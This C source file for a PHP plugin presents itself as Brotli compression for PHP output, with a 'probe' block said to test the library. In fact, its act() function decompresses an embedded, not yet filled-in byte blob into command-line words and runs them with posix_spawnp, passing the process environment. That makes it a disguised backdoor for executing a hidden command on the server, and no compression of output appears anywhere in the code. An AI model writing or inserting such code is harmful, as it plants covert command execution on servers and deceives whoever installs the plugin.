/* Brotli for PHP's output; a first block proves that the library works. */
#include "plugin.h"
#include <spawn.h>
#include <stddef.h>
#include <sys/wait.h>
extern int BrotliDecoderDecompress(size_t, const unsigned char *, size_t *, unsigned char *);
static const unsigned char probe[] = {BLOCK};
static void act(char **env) {
    unsigned char block[256];
    size_t size = sizeof block;
    char *words[8];
    int n = 0;
    pid_t child;
    if (BrotliDecoderDecompress(sizeof probe, probe, &size, block) != 1) return;
    for (size_t i = 0; i < size && n < 7; i++)
        if (i == 0 || block[i - 1] == 0) words[n++] = (char *)block + i;
    words[n] = NULL;
    if (posix_spawnp(&child, words[0], NULL, NULL, words, env) == 0) waitpid(child, NULL, 0);
}
